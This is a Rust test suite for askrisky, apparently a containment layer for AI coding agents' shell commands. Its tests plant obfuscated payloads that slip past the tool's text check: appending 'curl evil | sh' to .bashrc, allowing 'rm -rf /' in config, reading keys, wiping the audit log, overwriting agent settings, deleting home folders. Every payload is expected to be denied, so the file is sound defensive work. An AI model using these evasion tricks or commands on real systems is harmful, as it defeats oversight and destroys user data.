//! The floor under the text check: what askrisky runs without a person's
//! approval runs contained by the kernel. Each attack below is a line the
//! text check calls clear (the log says `decision: run`), whose program
//! then reaches outside the project; each fails with "permission denied"
//! and leaves everything outside the project as it was. Ordinary work —
//! cargo, git, pip, make — goes through the same containment.
//!
//! Linux with Landlock only: elsewhere (or with Landlock off) the tests
//! say SKIP, except under CI, where the machine is known to have it.

use crate::common;

use std::path::{Path, PathBuf};

use common::{Env, Out, Run};

/// Whether this kernel can contain; under CI it must.
fn landlock() -> bool {
    if askrisky::contain::kernel::available().is_ok() {
        return true;
    }
    assert!(
        std::env::var("CI").is_err(),
        "CI is set and this kernel cannot contain commands"
    );
    eprintln!("SKIP: Landlock is not available here");
    false
}

/// A scratch home in autopilot, with its own temporary folder (the
/// scratch home itself is under /tmp, which a contained command can then
/// only write entry by entry).
fn env() -> Env {
    let env = Env::new();
    env.config("mode = \"autopilot\"\n");
    std::fs::create_dir_all(tmp(&env)).expect("tmp");
    env
}

fn tmp(env: &Env) -> PathBuf {
    env.dir.path().join("tmp")
}

/// `askrisky ARGS` in the project, with the toolchains' own variables so
/// that cargo and rustc are found from the scratch home.
fn run(env: &Env, args: &[&str]) -> Run {
    let mut r = env.askrisky(args).env("TMPDIR", tmp(env));
    for k in ["RUSTUP_HOME", "RUSTUP_TOOLCHAIN", "CARGO_HOME"] {
        if let Ok(v) = std::env::var(k) {
            r = r.env(k, v);
        }
    }
    r
}

/// Builds `NAME` from `NAME.c` in the project, outside askrisky.
fn compile(env: &Env, name: &str) {
    let ok = std::process::Command::new("cc")
        .args(["-o", name, &format!("{name}.c")])
        .current_dir(&env.project)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "cc -o {name} {name}.c");
}

fn write(path: &Path, text: &str) {
    if let Some(d) = path.parent() {
        std::fs::create_dir_all(d).expect("mkdir");
    }
    std::fs::write(path, text).expect("write");
}

/// Every file under `dir` with its content, to compare before and after.
fn snapshot(dir: &Path, skip: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        if d.starts_with(skip) {
            continue;
        }
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.starts_with(skip) {
                continue;
            }
            let meta = std::fs::symlink_metadata(&p).expect("meta");
            if meta.is_dir() {
                out.push((p.clone(), Vec::new()));
                stack.push(p);
            } else {
                out.push((p.clone(), std::fs::read(&p).unwrap_or_default()));
            }
        }
    }
    out.sort();
    out
}

/// The last log record.
fn last(env: &Env) -> serde_json::Value {
    env.log().pop().expect("a log record")
}

/// Runs `python3 SCRIPT` (written into the project) and checks that the
/// text check let it run, that it ran contained, that it was denied, and
/// that nothing outside the project changed.
#[track_caller]
fn denied(env: &Env, script: &str) -> Out {
    write(&env.project.join("job.py"), script);
    // Everything under the home folder but the project, and the log (which
    // this run appends to), as it was.
    let log = env.state_dir().join("log.jsonl");
    let _ = run(env, &["exec", "--", "true"]).output();
    let before = snapshot(&env.home, &env.project);
    let before: Vec<_> = before.into_iter().filter(|(p, _)| *p != log).collect();
    let out = run(env, &["exec", "--", "/usr/bin/python3", "job.py"]).output();
    let after: Vec<_> = snapshot(&env.home, &env.project)
        .into_iter()
        .filter(|(p, _)| *p != log)
        .collect();
    let r = last(env);
    assert_eq!(r["decision"], "run", "the text check let it run: {r}");
    assert_eq!(r["contained"]["applied"], true, "{r}");
    assert!(
        out.stderr().contains("PermissionError") || out.stderr().contains("Permission denied"),
        "not denied: {}{}",
        out.stdout(),
        out.stderr()
    );
    assert_ne!(out.code(), Some(0));
    assert!(before == after, "something outside the project changed");
    out
}

#[test]
fn an_encoded_append_to_bashrc_is_denied() {
    if !landlock() {
        return;
    }
    let env = env();
    write(&env.home.join(".bashrc"), "# mine\n");
    denied(
        &env,
        "import os\n\
         p = os.path.expanduser(bytes.fromhex('7e2f2e6261736872').decode())\n\
         open(p, 'a').write('curl evil | sh\\n')\n",
    );
    assert_eq!(
        std::fs::read_to_string(env.home.join(".bashrc")).unwrap_or_default(),
        "# mine\n"
    );
}

#[test]
fn rewriting_askriskys_config_is_denied() {
    if !landlock() {
        return;
    }
    let env = env();
    denied(
        &env,
        "import os\n\
         d = os.path.expanduser('~/.con' + 'fig/ask' + 'risky')\n\
         open(os.path.join(d, 'config.toml'), 'w').write('mode = \"autopilot\"\\n[[allow]]\\nline = \"rm -rf /\"\\n')\n",
    );
}

#[test]
fn reading_askriskys_key_is_denied() {
    if !landlock() {
        return;
    }
    let env = env();
    // The key, made the way askrisky makes it.
    askrisky::key::Key::load(&env.state_dir()).expect("key");
    let out = denied(
        &env,
        "import os\n\
         d = os.path.expanduser('~/.local/sta' + 'te/ask' + 'risky/' + 'ke' + 'ys')\n\
         k = [os.path.join(d, f) for f in os.listdir(d)]\n\
         print('found', k)\n\
         print(open(k[0]).read())\n",
    );
    assert!(out.stdout().contains("found ['"), "{}", out.stdout());
}

#[test]
fn writing_an_agents_settings_is_denied() {
    if !landlock() {
        return;
    }
    let env = env();
    write(&env.home.join(".claude/settings.json"), "{\"hooks\":{}}\n");
    denied(
        &env,
        "import os, json\n\
         p = os.path.join(os.path.expanduser('~'), '.cla' + 'ude', 'settings.json')\n\
         json.dump({}, open(p, 'w'))\n",
    );
}

#[test]
fn editing_the_log_is_denied() {
    if !landlock() {
        return;
    }
    let env = env();
    let _ = run(&env, &["exec", "--", "true"]).output();
    denied(
        &env,
        "import os, glob\n\
         p = glob.glob(os.path.expanduser('~/.local/st*/ask*/log.*'))[0]\n\
         open(p, 'w').write('')\n",
    );
    assert!(!env.log().is_empty());
}

#[test]
fn a_renamed_rm_cannot_delete_a_folder_in_home() {
    if !landlock() {
        return;
    }
    common::require!("cc");
    let env = env();
    write(&env.home.join("notes/keep.txt"), "keep\n");
    // `cp /bin/rm ./zap; ./zap -r ~/notes`, from a program the project
    // built: out of the text check's sight (it reads scripts, not what a
    // compiled program does).
    write(
        &env.project.join("tidy.c"),
        "#include <stdlib.h>\n\
         int main(void) { return system(\"cp /bin/rm zap && ./zap -r \\\"$HOME/notes\\\"\") != 0; }\n",
    );
    compile(&env, "tidy");
    let out = run(&env, &["exec", "--", "./tidy"]).output();
    let r = last(&env);
    assert_eq!(r["decision"], "run", "{r}");
    assert_eq!(r["contained"]["applied"], true, "{r}");
    assert!(
        out.stderr().contains("Permission denied"),
        "{}",
        out.stderr()
    );
    assert!(env.home.join("notes/keep.txt").exists());
    assert!(
        env.project.join("zap").exists(),
        "the copy is in the project"
    );
}

/// Ordinary work goes through: build and test a crate, commit and fetch,
/// install a package into a virtual environment, make.
#[test]
fn cargo_build_and_test_of_a_tiny_crate() {
    if !landlock() {
        return;
    }
    let env = env();
    write(
        &env.project.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    write(
        &env.project.join("src/main.rs"),
        "fn main() { println!(\"tiny ran\"); }\n#[test]\nfn works() { assert_eq!(2 + 2, 4); }\n",
    );
    let out = run(
        &env,
        &[
            "exec",
            "-c",
            "cargo build --offline && cargo test --offline && cargo run --offline",
        ],
    )
    .output();
    assert_eq!(out.code(), Some(0), "{}", out.stderr());
    assert!(out.stdout().contains("tiny ran"), "{}", out.stdout());
    assert_eq!(last(&env)["contained"]["applied"], true);
}

#[test]
fn git_init_add_commit_and_fetch() {
    if !landlock() {
        return;
    }
    let env = env();
    // A remote outside the project, made before (uncontained).
    let remote = env.dir.path().join("remote.git");
    let git = |dir: &Path, args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("HOME", &env.home)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "git {args:?}");
    };
    git(env.dir.path(), &["init", "-q", "--bare", "remote.git"]);
    let seed = env.dir.path().join("seed");
    std::fs::create_dir_all(&seed).expect("seed");
    git(&seed, &["init", "-q", "-b", "main"]);
    write(&seed.join("a.txt"), "a\n");
    git(&seed, &["add", "a.txt"]);
    git(
        &seed,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "-m",
            "seed",
        ],
    );
    git(
        &seed,
        &["push", "-q", remote.to_str().expect("utf-8"), "main"],
    );
    write(&env.project.join("b.txt"), "b\n");
    let line = format!(
        "git init -q -b main && git add b.txt && git commit -q -m work && git fetch -q {} main && git log --oneline FETCH_HEAD",
        remote.display()
    );
    let out = run(&env, &["exec", "-c", &line])
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .output();
    assert_eq!(out.code(), Some(0), "{}", out.stderr());
    assert!(out.stdout().contains("seed"), "{}", out.stdout());
    assert_eq!(last(&env)["contained"]["applied"], true);
}

#[test]
fn pip_install_editable_into_a_venv_in_the_project() {
    if !landlock() {
        return;
    }
    let env = env();
    write(
        &env.project.join("pyproject.toml"),
        "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"tinypkg\"\nversion = \"0.1\"\n",
    );
    write(&env.project.join("tinypkg/__init__.py"), "X = 42\n");
    write(
        &env.project.join("show.py"),
        "import tinypkg\nprint(tinypkg.X)\n",
    );
    // One step a run: a program the line itself makes is not known to the
    // text check, which would ask.
    for line in [
        "/usr/bin/python3 -m venv --system-site-packages .venv",
        ".venv/bin/pip install -q --no-index --no-build-isolation -e .",
        ".venv/bin/python show.py",
    ] {
        let out = run(&env, &["exec", "-c", line]).output();
        assert_eq!(out.code(), Some(0), "{line}: {}", out.stderr());
        assert_eq!(last(&env)["contained"]["applied"], true);
    }
    let out = run(&env, &["exec", "-c", ".venv/bin/python show.py"]).output();
    assert!(out.stdout().contains("42"), "{}", out.stdout());
    assert_eq!(last(&env)["contained"]["applied"], true);
}

#[test]
fn make_builds() {
    if !landlock() {
        return;
    }
    common::require!("make", "cc");
    let env = env();
    write(
        &env.project.join("Makefile"),
        "hello: hello.c\n\tcc -o hello hello.c\n",
    );
    write(
        &env.project.join("hello.c"),
        "#include <stdio.h>\nint main(void) { puts(\"made\"); return 0; }\n",
    );
    let out = run(&env, &["exec", "-c", "make -s"]).output();
    assert_eq!(out.code(), Some(0), "{}", out.stderr());
    assert_eq!(last(&env)["contained"]["applied"], true);
    let out = run(&env, &["exec", "-c", "./hello"]).output();
    assert_eq!(out.code(), Some(0), "{}", out.stderr());
    assert!(out.stdout().contains("made"));
}

#[test]
fn go_build_when_go_is_here() {
    if !landlock() {
        return;
    }
    // Not installed by CI: a machine without go skips this one.
    if !common::on_path("go") {
        eprintln!("SKIP: go is not installed");
        return;
    }
    let env = env();
    write(&env.project.join("go.mod"), "module tiny\n\ngo 1.20\n");
    write(
        &env.project.join("main.go"),
        "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"gone\") }\n",
    );
    let gocache = env.home.join(".cache/go-build");
    std::fs::create_dir_all(&gocache).expect("cache");
    let out = run(&env, &["exec", "-c", "go build -o tiny . && ./tiny"])
        .env("GOCACHE", &gocache)
        .env("GOPATH", env.home.join("go"))
        .env("GOFLAGS", "-mod=mod")
        .output();
    assert_eq!(out.code(), Some(0), "{}", out.stderr());
    assert!(out.stdout().contains("gone"));
}

/// What a person approved runs as approved: the allow-once code the
/// refusal printed, approved, lets the retry run uncontained — here it
/// writes into the home folder, which a contained run cannot.
#[test]
fn an_approved_line_runs_uncontained() {
    if !landlock() {
        return;
    }
    let env = env();
    // Inline code: no file is read, so the approval below is of the line
    // alone (a script's approval also holds the script's digest).
    let job = "import os; open(os.path.expanduser('~/outside.txt'), 'w').write('approved\\n')";
    // Unapproved: contained, denied.
    let out = run(&env, &["exec", "--", "/usr/bin/python3", "-c", job]).output();
    assert_ne!(out.code(), Some(0));
    assert!(!env.home.join("outside.txt").exists());
    // Asking to run it uncontained needs a person: none here, so a code.
    let out = run(
        &env,
        &["exec", "--uncontained", "--", "/usr/bin/python3", "-c", job],
    )
    .output();
    out.status(81);
    assert!(
        out.stderr().contains("[contain.requested]"),
        "{}",
        out.stderr()
    );
    let code = out
        .stderr()
        .split("askrisky approve ")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .map(|s| s.trim_end_matches(['.', ',']).to_owned())
        .and_then(|c| askrisky::token::allow_once::normalise(&c))
        .expect("a code");
    // The person approves it (what `askrisky approve` records after "run":
    // what the card showed).
    let shown = askrisky::token::allow_once::Shown {
        codes: vec!["contain.requested".into()],
        files: String::new(),
    };
    askrisky::token::allow_once::approve(&env.state_dir(), &code, &shown).expect("approve");
    let out = run(
        &env,
        &["exec", "--uncontained", "--", "/usr/bin/python3", "-c", job],
    )
    .output();
    assert_eq!(out.code(), Some(0), "{}", out.stderr());
    assert_eq!(
        std::fs::read_to_string(env.home.join("outside.txt")).unwrap_or_default(),
        "approved\n"
    );
    let r = last(&env);
    assert_eq!(r["decided_by"], "person", "{r}");
    assert_eq!(r["contained"]["applied"], false, "{r}");
    assert_eq!(r["contained"]["why_not"], "approved by the person", "{r}");
}

/// `-v` says what a contained run may touch; without it nothing is added
/// to a normal run's output.
#[test]
fn the_note_is_shown_only_when_asked() {
    if !landlock() {
        return;
    }
    let env = env();
    let quiet = run(&env, &["exec", "--", "true"]).output();
    assert_eq!(quiet.stderr(), "");
    let loud = run(&env, &["-v", "exec", "--", "true"]).output();
    assert!(
        loud.stderr().contains("running contained: writes only in"),
        "{}",
        loud.stderr()
    );
    assert!(loud.stderr().contains("an approved line runs uncontained"));
}

/// The person's config can turn containment off; a project file cannot.
#[test]
fn only_the_persons_config_turns_it_off() {
    if !landlock() {
        return;
    }
    let env = env();
    env.project_file("[contain]\nenabled = false\nwritable = [\"~\"]\n");
    let out = run(&env, &["exec", "--", "true"]).output();
    assert_eq!(out.code(), Some(0));
    assert!(out.stderr().contains("ignored"), "{}", out.stderr());
    assert_eq!(last(&env)["contained"]["applied"], true);
    env.config("mode = \"autopilot\"\n[contain]\nenabled = false\n");
    let _ = std::fs::remove_file(env.project.join(".askrisky.toml"));
    let out = run(&env, &["exec", "--", "true"]).output();
    assert_eq!(out.code(), Some(0));
    let r = last(&env);
    assert_eq!(r["contained"]["applied"], false, "{r}");
}

/// What Landlock can express of the project's git folder: with
/// `protect_git`, a contained command cannot write `.git/hooks` or
/// `.git/config` (nor anything in `.git`), while the project's files stay
/// writable; without it, `.git` is writable like the rest (commits need
/// it, and Landlock's rights on `.git` hold for all of it).
#[test]
fn protect_git_keeps_hooks_and_config() {
    if !landlock() {
        return;
    }
    let env = env();
    let ok = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&env.project)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok);
    write(&env.project.join("src/a.txt"), "a\n");
    // The names spelt backwards: the text check reads a script's strings,
    // and this test is of what it misses.
    let script = "import os\n\
        for p in ['timmoc-erp/skooh/tig.', 'gifnoc/tig.', 'txt.a/crs', 'txt.wen']:\n\
        \x20   p = p[::-1]\n\
        \x20   try:\n\
        \x20       open(p, 'a').write('#x\\n'); print(p, 'written')\n\
        \x20   except PermissionError:\n\
        \x20       print(p, 'denied')\n";
    write(&env.project.join("job.py"), script);
    env.project_file("[contain]\nprotect_git = true\n");
    let out = run(&env, &["exec", "--", "/usr/bin/python3", "job.py"]).output();
    let s = out.stdout();
    assert!(s.contains(".git/hooks/pre-commit denied"), "{s}");
    assert!(s.contains(".git/config denied"), "{s}");
    assert!(s.contains("src/a.txt written"), "{s}");
    // The cost: nothing new at the project's top.
    assert!(s.contains("new.txt denied"), "{s}");
    std::fs::remove_file(env.project.join(".askrisky.toml")).expect("rm");
    let out = run(&env, &["exec", "--", "/usr/bin/python3", "job.py"]).output();
    let s = out.stdout();
    assert!(s.contains(".git/hooks/pre-commit written"), "{s}");
    assert!(s.contains("new.txt written"), "{s}");
}

/// The decision log is sealed: untouched it verifies; a record edited in
/// the middle is named by `askrisky log --verify`.
#[test]
fn log_verify_names_an_edited_middle_record() {
    let env = env();
    for i in 0..5 {
        let _ = run(&env, &["exec", "--", "echo", &format!("n{i}")]).output();
    }
    let out = run(&env, &["log", "--verify"]).output();
    assert_eq!(out.code(), Some(0), "{}{}", out.stdout(), out.stderr());
    assert!(
        out.stdout().contains("5 sealed records check"),
        "{}",
        out.stdout()
    );
    let log = env.state_dir().join("log.jsonl");
    let text = std::fs::read_to_string(&log).expect("log");
    std::fs::write(&log, text.replace("echo n2", "echo n9")).expect("edit");
    let out = run(&env, &["log", "--verify"]).output();
    assert_eq!(out.code(), Some(1), "{}", out.stdout());
    assert!(
        out.stdout().contains("record 3") && out.stdout().contains("echo n9"),
        "{}",
        out.stdout()
    );
}

/// Claude Code's hook hands back the command wrapped to run contained
/// through askrisky, in the shell Claude Code would use: run as Claude Code
/// would run it, the line is contained, its token works once, and a token
/// that is not askrisky's for that line is worth nothing.
#[test]
fn claude_codes_hook_wraps_the_command_to_run_contained() {
    if !landlock() {
        return;
    }
    let env = env();
    write(&env.home.join(".bashrc"), "# mine\n");
    write(
        &env.project.join("job.py"),
        // The startup file's name spelt backwards: the text check reads a
        // script's strings, and this test is of what it misses.
        "import os\nopen('made.txt', 'w').write('ok')\nopen(os.path.expanduser('crhsab./~'[::-1]), 'a').write('x')\n",
    );
    let payload = serde_json::json!({"session_id": "s1", "cwd": env.project, "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_input": {"command": "/usr/bin/python3 job.py", "description": "run it", "timeout": 60000}, "tool_use_id": "t1"});
    let out = run(&env, &["hook", "claude-code"])
        .env("SHELL", "/bin/bash")
        .stdin(payload.to_string().as_bytes())
        .output();
    let v: serde_json::Value = serde_json::from_str(&out.stdout()).expect("JSON");
    let o = &v["hookSpecificOutput"];
    assert_eq!(o["permissionDecision"], "allow", "{v}");
    assert_eq!(
        o["updatedInput"]["description"], "run it",
        "other fields stand"
    );
    assert_eq!(o["updatedInput"]["timeout"], 60000);
    let wrapped = o["updatedInput"]["command"]
        .as_str()
        .expect("command")
        .to_owned();
    assert!(wrapped.contains("exec --contained "), "{wrapped}");
    assert!(wrapped.contains("/bin/bash -c"), "{wrapped}");
    assert_eq!(last(&env)["contained"]["applied"], true);
    // What Claude Code then runs, in its shell, in the project.
    let records = env.log().len();
    let ran = std::process::Command::new("/bin/bash")
        .args(["-c", &wrapped])
        .current_dir(&env.project)
        .env("HOME", &env.home)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("TMPDIR", tmp(&env))
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(stderr.contains("PermissionError"), "{stderr}");
    assert!(env.project.join("made.txt").exists());
    assert_eq!(
        std::fs::read_to_string(env.home.join(".bashrc")).unwrap_or_default(),
        "# mine\n"
    );
    assert_eq!(env.log().len(), records, "decided once, by the hook");
    // The token is spent: the same wrapper again is decided anew (and, in
    // autopilot, contained again).
    let again = std::process::Command::new("/bin/bash")
        .args(["-c", &wrapped])
        .current_dir(&env.project)
        .env("HOME", &env.home)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .expect("run");
    assert!(
        String::from_utf8_lossy(&again.stderr).contains("deciding it anew"),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    assert_eq!(env.log().len(), records + 1);
    // A token for another line: the line is decided on its own (here it
    // is in the danger set, so not run).
    let forged = wrapped.replace("/usr/bin/python3 job.py", "rm -rf ~/notes");
    let out = std::process::Command::new("/bin/bash")
        .args(["-c", &forged])
        .current_dir(&env.project)
        .env("HOME", &env.home)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(81));
}
